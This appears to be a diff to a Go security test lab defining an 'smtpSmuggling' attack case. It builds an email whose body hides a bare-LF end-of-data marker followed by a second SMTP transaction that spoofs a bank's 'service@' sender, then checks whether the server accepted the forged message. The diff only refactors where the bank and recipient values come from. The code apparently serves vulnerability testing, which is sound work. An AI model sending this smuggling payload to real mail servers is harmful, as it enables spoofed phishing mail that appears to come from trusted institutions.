@@ -20,13 +20,13 @@ func smtpSmuggling() *lab.Attack {
 			}
 			defer conn.Close()
 			letter := lab.Letter{From: "Crook <mail@" + lab.Crook + ">", Subject: "Hello", Body: "Hello\r\n\n.\r\n" +
-				"MAIL FROM:<service@" + lab.Bank + ">\r\nRCPT TO:<" + lab.Recipient + ">\r\nDATA\r\n"}
-			reply, err := s.Converse(conn, "EHLO "+lab.CrookMX+"\r\n", "MAIL FROM:<mail@"+lab.Crook+">\r\n", "RCPT TO:<"+lab.Recipient+">\r\n",
+				"MAIL FROM:<service@" + s.World.Bank + ">\r\nRCPT TO:<" + s.World.Recipient() + ">\r\nDATA\r\n"}
+			reply, err := s.Converse(conn, "EHLO "+lab.CrookMX+"\r\n", "MAIL FROM:<mail@"+lab.Crook+">\r\n", "RCPT TO:<"+s.World.Recipient()+">\r\n",
 				"DATA\r\n", string(s.World.Write(letter))+".\r\n")
 			if err != nil {
 				return lab.Result{}, err
 			}
-			if slices.Contains(s.Told(), "service@"+lab.Bank) {
+			if slices.Contains(s.Told(), "service@"+s.World.Bank) {
 				return lab.Result{Outcome: lab.Passes, Text: "the server has taken the second message for one of its own"}, nil
 			}
 			return (&lab.Receipt{Reply: reply}).Arrived(), nil
